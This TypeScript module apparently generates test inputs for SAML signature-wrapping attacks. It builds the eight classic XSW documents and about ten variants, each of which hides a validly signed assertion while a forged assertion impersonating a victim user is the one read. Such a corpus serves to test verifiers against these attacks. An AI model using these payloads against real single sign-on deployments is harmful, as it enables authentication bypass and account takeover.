/**
 * Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the eight classic
 * documents and some of their kin. A right, signed assertion is kept whole somewhere,
 * and another one, of whom the attacker wants to be, stands where it is read.
 */
import { assertionOf, type Exchange, responseOf, sign } from "./samlDocuments.ts";

type Make = (exchange: Exchange) => string;
type Parts = { exchange: Exchange; signed: string; bare: string; signature: string; evil: string; evilSame: string };

const ID = "_right";
const SIGNATURE = /<Signature[\s>].*<\/Signature>/s;

/** A right assertion, signed; the same without its signature; and the attacker's. */
function partsOf(exchange: Exchange): Parts {
  const signed = sign(assertionOf(exchange, { id: ID, nameId: "s-attacker", email: "guest@acme.test" }));
  const signature = SIGNATURE.exec(signed)![0];
  const evil = assertionOf(exchange, { id: "_evil", nameId: "s-victim", email: "owner@acme.test" });
  return { exchange, signed, bare: signed.replace(SIGNATURE, ""), signature, evil, evilSame: evil.replace("_evil", ID) };
}

const wrap =
  (make: (parts: Parts) => string): Make =>
  (exchange) =>
    make(partsOf(exchange));
/** Puts `inside` before the end of an element. */
const into = (xml: string, end: string, inside: string): string => xml.replace(end, `${inside}${end}`);
const afterIssuer = (assertion: string, signature: string): string => assertion.replace("</saml:Issuer>", `</saml:Issuer>${signature}`);
const objectOf = (signature: string, inside: string): string => into(signature, "</Signature>", `<Object>${inside}</Object>`);

/** A response that is signed, to be wrapped itself; its assertion is not. */
const signedResponse = (exchange: Exchange) =>
  sign(responseOf(exchange, assertionOf(exchange, { id: ID, nameId: "s-attacker", email: "guest@acme.test" }), { id: "_response" }), {
    element: "Response",
  });

export const wrappings: Record<string, Make> = {
  "XSW1: the signed response inside of the signature of another": (exchange) => {
    const right = signedResponse(exchange);
    const signature = SIGNATURE.exec(right)![0];
    const evil = responseOf(exchange, partsOf(exchange).evil, { id: "_evilResponse" });
    return evil.replace("</saml:Issuer>", `</saml:Issuer>${objectOf(signature, right.replace(SIGNATURE, ""))}`);
  },
  "XSW2: the signed response before its signature, in another": (exchange) => {
    const right = signedResponse(exchange);
    const signature = SIGNATURE.exec(right)![0];
    const evil = responseOf(exchange, partsOf(exchange).evil, { id: "_evilResponse" });
    return evil.replace("</saml:Issuer>", `</saml:Issuer>${right.replace(SIGNATURE, "")}${signature}`);
  },
  "XSW3: the attacker's assertion before the signed one": wrap(({ exchange, evil, signed }) => responseOf(exchange, evil + signed)),
  "XSW4: the signed assertion inside of the attacker's": wrap(({ exchange, evil, signed }) =>
    responseOf(exchange, into(evil, "</saml:Assertion>", signed)),
  ),
  "XSW5: the attacker's assertion has the signature, the signed one stands behind": wrap(({ exchange, evil, signature, bare }) =>
    responseOf(exchange, afterIssuer(evil, signature) + bare),
  ),
  "XSW6: the signed assertion inside of the signature of the attacker's": wrap(({ exchange, evil, signature, bare }) =>
    responseOf(exchange, afterIssuer(evil, into(signature, "</Signature>", bare))),
  ),
  "XSW7: the attacker's assertion in Extensions, before the signed one": wrap(({ exchange, evil, signed }) =>
    responseOf(exchange, `<samlp:Extensions>${evil}</samlp:Extensions>${signed}`),
  ),
  "XSW8: the signed assertion in an Object of the signature of the attacker's": wrap(({ exchange, evil, signature, bare }) =>
    responseOf(exchange, afterIssuer(evil, objectOf(signature, bare))),
  ),
  "the attacker's assertion with the same id, before": wrap(({ exchange, evilSame, signed }) => responseOf(exchange, evilSame + signed)),
  "the attacker's assertion with the same id, behind": wrap(({ exchange, evilSame, signed }) => responseOf(exchange, signed + evilSame)),
  "the attacker's assertion behind the signed one": wrap(({ exchange, evil, signed }) => responseOf(exchange, signed + evil)),
  "the signed assertion in Advice": wrap(({ exchange, evil, signed }) =>
    responseOf(exchange, into(evil, "</saml:Assertion>", `<saml:Advice>${signed}</saml:Advice>`)),
  ),
  "the signed assertion in the status": wrap(({ exchange, evil, signed }) =>
    into(responseOf(exchange, evil), "</samlp:Status>", `<samlp:StatusDetail>${signed}</samlp:StatusDetail>`),
  ),
  "the attacker's assertion in another namespace": wrap(({ exchange, evil, signed }) =>
    responseOf(exchange, evil.replaceAll("urn:oasis:names:tc:SAML:2.0:assertion", "urn:evil") + signed),
  ),
  "the signed assertion's signature without its assertion": wrap(({ exchange, evil, signature }) =>
    responseOf(exchange, afterIssuer(evil, signature.replace(`#${ID}`, "#_evil"))),
  ),
  "a second subject": wrap(({ exchange, signed, evil }) =>
    responseOf(exchange, signed.replace("<saml:Subject>", `${/<saml:Subject>.*<\/saml:Subject>/s.exec(evil)![0]}<saml:Subject>`)),
  ),
  "a second name outside of the assertion": wrap(({ exchange, signed }) =>
    responseOf(
      exchange,
      `<samlp:Extensions><NameID xmlns="urn:oasis:names:tc:SAML:2.0:assertion">s-victim</NameID></samlp:Extensions>${signed}`,
    ),
  ),
  "an id by another attribute": wrap(({ exchange, evil, signed }) =>
    responseOf(exchange, `${signed}<samlp:Extensions><x Id="${ID}">${evil.length}</x></samlp:Extensions>`),
  ),
};
